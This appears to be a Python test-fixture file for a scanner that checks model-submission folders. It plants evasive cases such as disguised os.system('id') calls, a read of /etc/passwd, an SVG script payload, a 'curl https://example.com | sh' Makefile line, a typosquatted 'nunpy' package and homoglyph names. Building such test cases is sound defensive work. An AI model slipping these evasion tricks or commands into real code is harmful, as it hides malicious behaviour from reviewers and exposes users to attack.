"""Made by somebody who knows the checks: code that calls nothing by its name, files that nobody opens, data that are nearly others."""

from __future__ import annotations

import gzip
import io
import json
import shutil
import zipfile
from collections.abc import Callable
from pathlib import Path

import numpy as np
import onnx
from case import broken, first_cell, replace
from onnx import helper, numpy_helper

PICTURE = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


def _wrote(name: str, data: bytes) -> Callable[[Path], None]:
    def breaks(folder: Path) -> None:
        (folder / name).write_bytes(data)

    return breaks


def _zipped(**members: bytes) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for name, data in members.items():
            archive.writestr(name.replace("_", "."), data)
    return file.getvalue()


for name, code in {
    "module-through-another": "import glob\nRUN = lambda: glob.os.system('id')",
    "module-from-the-table": "import sys\nRUN = lambda: sys.modules['os'].system('id')",
    "everything-of-a-module": "from os import *\nRUN = lambda: system('id')",
    "evaluation-by-another-name": "RUN = eval\nVALUE = RUN('1 + 1')",
    "builtins-as-a-module": "import builtins\nRUN = lambda: builtins.exec('pass')",
    "builtins-as-a-table": "RUN = __builtins__['eval']",
    "imported-as-text": "import importlib\nNET = importlib.import_module('socket')",
    "process-of-a-loop": "import asyncio\nRUN = lambda: asyncio.create_subprocess_shell('id')",
    "timed-text": "import timeit\nRUN = lambda: timeit.timeit('pass')",
    "name-of-a-file-kept": "PLACE = '/etc/passwd'\nREAD = lambda: open(file=PLACE)",
    "pickled-by-position": "import numpy as np\nREAD = lambda: np.load('images.npy', None, True)",
    "native-by-numpy": "import numpy as np\nRUN = lambda: np.ctypeslib.load_library('x', '.')",
    "native-by-runtime": "import onnxruntime\nRUN = lambda: onnxruntime.SessionOptions().register_custom_ops_library('x')",
    "code-from-a-file": "from importlib.machinery import SourceFileLoader\nRUN = lambda: SourceFileLoader('x', 'y').load_module()",
    "own-code-written": "from pathlib import Path\nRUN = lambda text: Path(__file__).write_text(text)",
    "backend-that-is-a-module": "import matplotlib\nSHOW = lambda: matplotlib.use('module:' + '//preprocess')",
    "frames": "import inspect\nSEEN = lambda: inspect.currentframe().f_back.f_globals",
}.items():

    def _reaches(folder: Path, code: str = code) -> None:
        replace(folder / "preprocess.py", "import numpy as np\n", f"import numpy as np\n\n{code}\n")

    broken(name, f"preprocess.py says {code.splitlines()[-1]!r}", "artifacts.scan", near=True)(_reaches)


for name, what, code in (
    ("name-from-a-file", "getattr is given a name that lies in a file", "NAMED = lambda path: getattr(np, open(path).read())"),
    ("backend-from-a-file", "a backend of matplotlib that lies in a file",
     "import matplotlib\nSHOW = lambda path: matplotlib.use(open(path).read())"),
    ("module-under-a-name", "a module under another name", "import os\nKEPT = os\nRUN = lambda: KEPT.system('id')"),
    ("address-in-parts", "an address that is put together",
     "PARTS = ('https:', '', 'example.org', 'x.csv')\nREAD = lambda: np.genfromtxt('/'.join(PARTS))"),
    ("script-hides-call", "a call whose name is put together", "import os\nrun = getattr(os, 'sys' + 'tem')"),
):  # fmt: skip

    def _asks(folder: Path, code: str = code) -> None:
        replace(folder / "preprocess.py", "import numpy as np\n", f"import numpy as np\n\n{code}\n")

    broken(name, what, "artifacts.scan", answer="needs a person", near=True)(_asks)


@broken(
    "module-handed-on",
    "a second script hands a module on under a name of its own",
    "artifacts.scan",
    answer="needs a person",
    near=True,
)
def _handed_on(folder: Path) -> None:
    (folder / "runner.py").write_text("import concurrent.futures as helper\n")
    line = "import numpy as np\n"
    replace(folder / "preprocess.py", line, f"{line}from runner import helper\n\nRUN = lambda: helper.process.mp\n")


@broken(
    "table-of-another-file",
    "a second script changes the names that getattr is given",
    "artifacts.scan",
    answer="needs a person",
    near=True,
)
def _table(folder: Path) -> None:
    (folder / "runner.py").write_text("import preprocess\n\npreprocess.KINDS['b'] = '__glo' + 'bals__'\n")
    line = "import numpy as np\n"
    code = "KINDS = {'a': 'float32'}\nREAD = lambda kind: getattr(np, KINDS[kind])"
    replace(folder / "preprocess.py", line, f"{line}\n{code}\n")


broken("magic-that-runs-code", "code behind %timeit, which no parser reads", "artifacts.scan", near=True)(
    lambda folder: first_cell(folder / "inference.ipynb", "%timeit -n 1 exec('pass')")
)

for name, what, check, file, data in (
    ("program-in-zip", "an archive with a program in it", "files.archives", "tools.zip", _zipped(tool_bin=b"\x7fELF" + bytes(60))),
    ("script-in-zip", "an archive with a script that nobody reads", "files.archives", "tools.zip", _zipped(run_py=b"import os\n")),
    ("picture-packed", "a packed picture that is a program for the browser", "files.archives", "figure.svgz", gzip.compress(PICTURE)),
    ("text-in-arrays", "a script among arrays", "files.archives", "arrays.npz", _zipped(run_py=b"import os\n")),
    ("python-without-suffix", "a script of Python that is not called so", "files.programs", "tool", b"#!/usr/bin/env python3\nimport os\n"),
    ("python-of-windows", "a script of Python for Windows alone", "files.programs", "view.pyw", b"import os\n"),
    ("makefile", "a Makefile", "files.programs", "Makefile", b"all:\n\tcurl https://example.com | sh\n"),
    ("script-that-looks-alike", "a script whose name has a Cyrillic letter", "files.names", "prepr\u043ecess.py", b"X = 1\n"),
    ("license-in-markdown", "LICENSE.md is the GPL and the metadata say Apache-2.0", "artifacts.license-file", "LICENSE.md",
     b"# GNU GENERAL PUBLIC LICENSE\n\nVersion 3, 29 June 2007\n"),
    ("environment-with-trap", "an environment of conda with a package that is nearly one", "artifacts.requirements", "environment.yml",
     b"dependencies:\n  - pip:\n    - nunpy\n"),
):  # fmt: skip
    broken(name, what, check, near=True)(_wrote(file, data))


@broken(
    "readme-that-installs",
    "a readme that tells to install a package that is nearly one",
    "artifacts.requirements",
    near=True,
)
def _(folder: Path) -> None:
    with (folder / "README.md").open("a", encoding="utf-8") as file:
        file.write("\n## Install\n\n```\npip install onnxruntime nunpy\n```\n")


@broken("name-that-looks-alike", "a function whose name has a Cyrillic letter", "artifacts.sources", near=True)
def _(folder: Path) -> None:
    replace(folder / "postprocess.py", "def postprocess", "def p\u043estprocess(x):\n    return x\n\n\ndef postprocess")


@broken("script-for-show", "a notebook that imports the script and scales by itself", "artifacts.processing", near=True)
def _(folder: Path) -> None:
    content = (folder / "inference.ipynb").read_text(encoding="utf-8")
    (folder / "inference.ipynb").write_text(
        content.replace("preprocess(images[:8])", "(images[:8, None] / 15).astype(np.float32)"), encoding="utf-8"
    )


def _notebook(change: Callable[[dict[str, object], list[dict[str, object]]], None]) -> Callable[[Path], None]:
    def breaks(folder: Path) -> None:
        file = folder / "inference.ipynb"
        content = json.loads(file.read_text(encoding="utf-8"))
        change(content, content["cells"])
        file.write_text(json.dumps(content, indent=1), encoding="utf-8")

    return breaks


broken(
    "notebook-with-attachment", "a picture beside the words of a cell that is a program", "artifacts.markup", near=True
)(_notebook(lambda _, cells: cells[0].update(attachments={"x.svg": {"image/svg+xml": PICTURE.decode()}})))
broken("notebook-with-widgets", "the state of widgets, which a browser builds", "artifacts.markup", near=True)(
    _notebook(
        lambda content, _: content["metadata"].update(  # type: ignore[attr-defined]
            widgets={"application/vnd.jupyter.widget-state+json": {"state": {}, "version_major": 2}}
        )
    )
)


@broken(
    "version-in-other-digits",
    "a version in digits that are not ASCII",
    "artifacts.metadata",
    near=True,
    also=("artifacts.readme",),
)
def _(folder: Path) -> None:
    replace(folder / "metadata.toml", 'version = "1.0"', 'version = "\u0661.\u0660"')


@broken(
    "version-without-end",
    "a version of five thousand digits",
    "artifacts.metadata",
    near=True,
    also=("artifacts.readme",),
)
def _(folder: Path) -> None:
    replace(folder / "metadata.toml", 'version = "1.0"', f'version = "{"9" * 5000}"')


def _answered(folder: Path, change: Callable[[np.ndarray], np.ndarray]) -> None:
    """A second data set that is made of the first, answered by the model."""
    from onnx.reference import ReferenceEvaluator

    given, made = folder / "test_data_set_0", folder / "test_data_set_1"
    shutil.rmtree(made)
    shutil.copytree(given, made)
    values = change(numpy_helper.to_array(onnx.load_tensor(given / "input_0.pb")))
    (logits,) = ReferenceEvaluator(str(folder / "model.onnx")).run(None, {"image": values})
    for name, array, file in (("image", values, "input_0.pb"), ("logits", logits, "output_0.pb")):
        (made / file).write_bytes(numpy_helper.from_array(np.asarray(array), name).SerializeToString())


@broken("golden-nearly-the-same", "two test data sets that differ by a rounding", "functionality.inputs", near=True)
def _(folder: Path) -> None:
    _answered(folder, lambda values: (values * np.float32(1.000001)).astype(np.float32))


@broken("answers-everything-alike", "a model that gives one answer to every input", "functionality.golden", answer="needs a person",
        near=True)  # fmt: skip
def _(folder: Path) -> None:
    model = onnx.load(folder / "model.onnx")
    last = next(node for node in model.graph.node if "logits" in node.output)
    last.output[list(last.output).index("logits")] = "seen"
    model.graph.initializer.append(numpy_helper.from_array(np.arange(10, dtype=np.float32)[None] / 7, "always"))
    model.graph.initializer.append(numpy_helper.from_array(np.array(0, np.float32), "never"))
    model.graph.node.append(helper.make_node("Mul", ["seen", "never"], ["nothing"]))
    model.graph.node.append(helper.make_node("Add", ["nothing", "always"], ["logits"]))
    (folder / "model.onnx").write_bytes(model.SerializeToString())
    for path in folder.glob("test_data_set_*"):
        rows = len(numpy_helper.to_array(onnx.load_tensor(path / "input_0.pb")))
        array = np.repeat(np.arange(10, dtype=np.float32)[None] / 7, rows, axis=0)
        (path / "output_0.pb").write_bytes(numpy_helper.from_array(array, "logits").SerializeToString())


@broken("weights-with-noise", "the weights of a served model with some noise, under another name", "artifacts.copy", previous=True,
        answer="needs a person", near=True)  # fmt: skip
def _(folder: Path) -> None:
    """The served one is called another: its entry in the manifest gets a name that is like no other."""
    root = folder.parents[1]
    for file in (root / "manifest.json", root / "README.md"):
        file.write_text(file.read_text(encoding="utf-8").replace("small-digits", "digit-reader"), encoding="utf-8")
    (root / "models" / "small-digits").rename(root / "models" / "digit-reader")
    model = onnx.load(folder / "model.onnx")
    generator = np.random.default_rng(0)
    for tensor in model.graph.initializer:
        values = numpy_helper.to_array(tensor)
        if values.dtype == np.float32:
            noisy = (values * (1 + 1e-5 * generator.standard_normal(values.shape))).astype(np.float32)
            tensor.CopyFrom(numpy_helper.from_array(noisy, tensor.name))
    (folder / "model.onnx").write_bytes(model.SerializeToString())
